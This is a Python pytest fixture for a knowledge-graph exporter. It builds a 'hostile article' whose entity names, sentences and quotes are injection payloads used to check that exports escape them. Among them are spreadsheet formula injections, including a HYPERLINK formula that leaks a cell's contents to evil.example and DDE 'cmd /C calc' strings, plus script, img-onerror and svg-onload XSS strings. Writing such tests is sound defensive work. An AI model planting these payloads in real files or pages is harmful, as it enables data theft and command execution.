"""A hostile article for the exports: names, quotations and evidence that tools opening the
exports would read as formulas, markup, script, escapes or control characters.

Mapped by the real mapping from hand-made extraction records (no spaCy model) into an
in-memory store, as `kg build` would store it.
"""

from datetime import datetime, timezone

import pytest

from builder.extraction.keys import entity_key
from builder.extraction.records import Entity, Extraction, Quote, Relation, Span
from builder.rdf.mapping import document_graph
from builder.sources import SourceDocument
from builder.store import KgStore

# (kind, class, name): formula starts (OWASP's list and a plain number), script and markup,
# the page's own placeholders, quotes and backslashes (DOT), control characters, line
# separators and right-to-left marks.
HOSTILE_ENTITIES = [
    ("person", "Person", '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'),
    ("organization", "Organization", "-2+3"),
    ("organization", "Organization", "+SUM(1,1)*cmd|' /C calc'!A0"),
    ("person", "Person", "@SUM(1+1)"),
    ("person", "Person", "-2"),
    ("place", "Place", "\tTabbed =1+1"),
    ("person", "Person", '</script><script>window.__pwned = "script"; alert(1)</script>'),
    ("person", "Person", '<!--<script>window.__pwned = "comment"; alert(2)//'),
    ("person", "Person", "<img src=x onerror=\"window.__pwned = 'img'; alert(3)\">"),
    ("person", "Person", 'Say "hi" \\N to O\'Brien & <b>Co</b> &amp; \\'),
    ("person", "Person", "Ctrl\x01\x0b\x7f Name"),
    ("person", "Person", "\u202eLiam\u202c \u200f\u05d9\u05e2\u05dc \u05db\u05d4\u05df"),
    ("organization", "Organization",
     "__CYTOSCAPE__ __GRAPH__ __LEGEND__ __POLICY__ __CSS__ __LIBRARY__ __APP__ __VERSION__ __LICENSE__"),
    ("place", "Place", "Line\u2028Sep\u2029Para"),
]
HOSTILE_SENTENCES = [
    '-2+3 people met =HYPERLINK("x") at <img src=x onerror="window.__pwned = 1"> the border.',
    '@SUM(A1) "quoted" \\ back\\slash </script><!--<script>window.__pwned = 2</script>',
    "\tTabbed, \u202eright-to-left\u202c \u2028 & line separators \\l \\N",
    "+cmd|' /C calc'!A0 said \"=1+1\", then \r=2+2 on a new line.",
]
# Other names of some entities (their alternative labels), by index in HOSTILE_ENTITIES.
HOSTILE_ALIASES = {0: "=cmd|' /C calc'!A0 alias", 6: "<svg onload=\"window.__pwned = 'svg'\">", 9: "-1e5"}
HOSTILE_QUOTES = ['=HYPERLINK("https://evil.example","click")', "<script>window.__pwned = 3</script>"]
WHEN = datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)


def hostile_document() -> tuple[SourceDocument, Extraction]:
    """The article: each name, sentence and quotation one line of the text."""
    parts: list[str] = []

    def span(text: str) -> Span:
        start = sum(len(p) + 1 for p in parts)
        parts.append(text)
        return Span(start, start + len(text), text)

    entities = [Entity(entity_key(kind, name), name, cls, [span(name)]) for kind, cls, name in HOSTILE_ENTITIES]
    for i, alias in HOSTILE_ALIASES.items():
        entities[i].mentions.append(span(alias))
    assert len({e.key for e in entities}) == len(entities)
    sentences = [span(s) for s in HOSTILE_SENTENCES]
    relations = [Relation(a.key, prop, b.key, sentences[i % len(sentences)], "rule-a", 0.5 + i / 100,
                          a.mentions[0], b.mentions[0])
                 for i, (a, b) in enumerate(zip(entities, entities[1:]))
                 for prop in (("metWith",) if i % 2 else ("near", "locatedIn"))]
    quotes = [Quote(span(q), entities[i].key, sentences[i], "rule-c", 0.9) for i, q in enumerate(HOSTILE_QUOTES)]
    source = SourceDocument("news/=1+1 <script>.txt", '=HYPERLINK("x") <b>title</b>', "\n".join(parts),
                            "sha256:" + "0" * 64, title="@title \\ </script>")
    return source, Extraction(entities, relations, quotes)


@pytest.fixture
def hostile_store():
    """An in-memory KgStore holding the hostile article, its entities recomputed."""
    source, extraction = hostile_document()
    store = KgStore(None)
    store.replace_graph(document_graph(source, extraction, pipeline="hostile 1.0", processed_at=WHEN))
    store.refresh_entities()
    yield store
    store.close()
